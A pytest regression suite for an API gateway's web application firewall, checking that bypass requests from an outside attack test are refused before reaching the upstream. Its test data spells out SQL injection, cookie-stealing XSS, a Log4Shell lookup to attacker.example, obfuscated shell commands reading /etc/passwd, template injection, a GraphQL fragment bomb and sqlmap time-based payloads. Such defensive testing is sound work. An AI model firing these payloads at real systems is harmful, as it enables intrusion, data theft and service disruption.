"""Regression tests for WAF bypasses found by an outside attack test: each sends the
exact request through a real gateway and checks the answer and that nothing reached the
upstream.

The GraphQL ones run the demo's own configuration (``dijk demo --print-config``) with the
recording upstream in place of the Polder Bank; the body ones a route with ``waf:`` and
no OpenAPI document, as in the README's attack-detection example.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest
import yaml

from dijk.cli.demo import demo_config_text
from tests.support.gateway import GatewayProcess, base_config, http_call
from tests.support.upstream import RecordingUpstream

READ_KEY = "dk_read_waf_bypass_regression_key"
WRITE_KEY = "dk_write_waf_bypass_regression_key"
SQLI = "1' UNION SELECT password FROM users--"


def assert_refused(
    answer: tuple[int, dict[str, str], dict[str, Any]], status: int, reason: str
) -> None:
    code, headers, problem = answer
    assert code == status, problem
    assert headers["content-type"] == "application/problem+json"
    assert problem["reason"] == reason
    assert "x-request-id" in headers


# -- the demo's GraphQL route ----------------------------------------------------------


@pytest.fixture
def demo_gateway(
    start_gateway: Callable[..., GatewayProcess], upstream: RecordingUpstream
) -> GatewayProcess:
    config = yaml.safe_load(demo_config_text())
    ports = base_config(upstream.port)
    config["listen"] = ports["listen"]
    config["admin"] = ports["admin"]
    config["upstreams"]["bank"]["url"] = f"http://127.0.0.1:{upstream.port}"
    config.pop("audit", None)
    env = {"DIJK_DEMO_KEY_READ": READ_KEY, "DIJK_DEMO_KEY_WRITE": WRITE_KEY}
    return start_gateway(config, env=env)


def graphql(gateway: GatewayProcess, body: dict[str, Any]) -> tuple[int, dict[str, str], Any]:
    headers = {"Content-Type": "application/json", "X-API-Key": READ_KEY}
    return http_call(gateway.port, "POST", "/graphql", json.dumps(body).encode(), headers)


def fragment_bomb(levels: int) -> dict[str, Any]:
    fragments = ["fragment F0 on Query{__typename}"] + [
        f"fragment F{i} on Query{{...F{i - 1} ...F{i - 1}}}" for i in range(1, levels + 1)
    ]
    document = (
        f"query A {{ search(q:{json.dumps(SQLI)}){{id}} }} query B {{ ...F{levels} }} "
        + " ".join(fragments)
    )
    return {"query": document, "operationName": "A"}


@pytest.mark.parametrize(
    ("variable", "default", "reason"),
    [
        ("$q:String", SQLI, "waf.sqli"),
        ("$q:String", "<script>alert(document.cookie)</script>", "waf.xss"),
        ("$q:String", "${jndi:ldap://attacker.example/a}", "waf.log4shell"),
        ("$q:String", "; cat /etc/passwd", "waf.cmdi"),
        ("$q:String", "{{config.__class__.__init__.__globals__}}", "waf.ssti"),
        # an Int variable whose default is a string: the upstream's 400 would reflect it
        ("$q:Int", "<script>alert(document.cookie)</script>", "waf.xss"),
    ],
)
def test_attacks_in_graphql_variable_defaults_are_refused_before_the_upstream(
    demo_gateway: GatewayProcess,
    recording: RecordingUpstream,
    variable: str,
    default: str,
    reason: str,
) -> None:
    document = f"query({variable}={json.dumps(default)}){{ search(q:$q) {{ id }} }}"
    assert_refused(graphql(demo_gateway, {"query": document}), 403, reason)
    assert recording.requests == []


def test_a_plain_graphql_default_reaches_the_upstream(
    demo_gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    document = 'query($q:String="Jansen"){ search(q:$q) { id } }'
    status, _, _ = graphql(demo_gateway, {"query": document})
    assert status == 200
    assert len(recording.requests) == 1


def test_an_attack_beside_a_fragment_bomb_is_refused_before_the_upstream(
    demo_gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    body = fragment_bomb(14)
    assert len(json.dumps(body)) < 800
    status, _, problem = graphql(demo_gateway, body)
    assert_refused((status, _, problem), 403, "waf.sqli")
    assert "graphql-expansion" in problem["rules"]
    assert recording.requests == []


# -- a route with waf: and no OpenAPI document ------------------------------------------


@pytest.fixture
def body_gateway(
    start_gateway: Callable[..., GatewayProcess], upstream: RecordingUpstream
) -> GatewayProcess:
    config = base_config(upstream.port)
    config["routes"] = [
        {
            "name": "lenient",
            "match": {"path_prefix": "/lenient"},
            "upstream": "echo",
            "waf": {"mode": "block", "unknown_encoding": "inspect", "opaque_bodies": "stream"},
        },
        {
            "name": "accounts",
            "match": {"path_prefix": "/api"},
            "upstream": "echo",
            "waf": {"mode": "block"},
        },
    ]
    return start_gateway(config)


ACCOUNT = json.dumps({"name": "<script>alert(document.cookie)</script>", "role": "admin"}).encode()


@pytest.mark.parametrize("content_type", ["application/octet-stream", "image/png"])
def test_json_labelled_as_opaque_bytes_is_refused_before_the_upstream(
    body_gateway: GatewayProcess, recording: RecordingUpstream, content_type: str
) -> None:
    answer = http_call(
        body_gateway.port, "POST", "/api/accounts", ACCOUNT, {"Content-Type": content_type}
    )
    assert_refused(answer, 403, "waf.xss")
    assert recording.requests == []


def test_an_attack_in_a_second_gzip_member_is_refused_before_the_upstream(
    body_gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    body = gzip.compress(b'{"role": "admin", ') + gzip.compress(
        b'"name": "<script>alert(document.cookie)</script>"}'
    )
    # (application/json would be refused earlier, as malformed, by the client limits)
    headers = {"Content-Type": "application/octet-stream", "Content-Encoding": "gzip"}
    assert_refused(
        http_call(body_gateway.port, "POST", "/api/accounts", body, headers), 403, "waf.xss"
    )
    assert recording.requests == []


@pytest.mark.parametrize("coding", ["br", "zstd", "x-unknown", "gzip, br"])
def test_a_content_coding_the_gateway_cannot_decode_is_refused_with_415(
    body_gateway: GatewayProcess, recording: RecordingUpstream, coding: str
) -> None:
    headers = {"Content-Type": "text/plain", "Content-Encoding": coding}
    answer = http_call(body_gateway.port, "POST", "/api/accounts", b"\x8b\x02\x80{}\x03", headers)
    assert_refused(answer, 415, "waf.unsupported_encoding")
    assert recording.requests == []


def test_a_route_may_opt_out_of_refusing_unknown_codings_and_reading_opaque_bodies(
    body_gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    headers = {"Content-Type": "text/plain", "Content-Encoding": "br"}
    status, _, _ = http_call(
        body_gateway.port, "POST", "/lenient/x", b"\x8b\x02\x80{}\x03", headers
    )
    assert status == 200
    status, _, _ = http_call(
        body_gateway.port, "POST", "/lenient/x", ACCOUNT, {"Content-Type": "image/png"}
    )
    assert status == 200
    assert len(recording.requests) == 2


# -- paranoia-1 misses in a query value -------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        ("; sleep 5 #", "waf.cmdi"),
        (";l\\s -la", "waf.cmdi"),
        ("a;w\\ho\\am\\i", "waf.cmdi"),
        ("${PATH:0:1}etc${PATH:0:1}passwd", "waf.cmdi"),
        ("'-'", "waf.sqli"),
        ("1'::int--", "waf.sqli"),
    ],
)
def test_disguised_shell_and_sql_probes_are_refused_before_the_upstream(
    body_gateway: GatewayProcess, recording: RecordingUpstream, payload: str, reason: str
) -> None:
    answer = http_call(body_gateway.port, "GET", "/api/search?" + urlencode({"q": payload}))
    assert_refused(answer, 403, reason)
    assert recording.requests == []


@pytest.mark.parametrize(
    "text", ["Sleep 5 nights; rest #1 priority", "server.port=${PORT:8080}", "O'Brien-O'Neil"]
)
def test_look_alikes_of_the_probes_reach_the_upstream(
    body_gateway: GatewayProcess, recording: RecordingUpstream, text: str
) -> None:
    status, _, _ = http_call(body_gateway.port, "GET", "/api/search?" + urlencode({"q": text}))
    assert status == 200
    assert len(recording.requests) == 1


# -- sqlmap payloads through the demo's routes -----------------------------------------

SQLMAP = [
    "Bakker AND GTID_SUBSET(CONCAT(0x7171787671,(SELECT (ELT(5021=5021,1))),0x71707a7871),5021)",
    "Bakker AND 1354=1354\x16",
    "https://example.com/page AND 4812=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66)||CHR(67),5)",
    "Jan Bakker AND 1234=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))",
]


@pytest.mark.parametrize("payload", SQLMAP)
def test_sqlmap_payloads_are_refused_in_search_and_graphql_variables(
    demo_gateway: GatewayProcess, recording: RecordingUpstream, payload: str
) -> None:
    headers = {"X-API-Key": READ_KEY}
    answer = http_call(
        demo_gateway.port, "GET", "/api/v1/search?" + urlencode({"q": payload}), b"", headers
    )
    assert_refused(answer, 403, "waf.sqli")
    body = {"query": "query($q:String!){ search(q:$q) { id } }", "variables": {"q": payload}}
    assert_refused(graphql(demo_gateway, body), 403, "waf.sqli")
    assert recording.requests == []
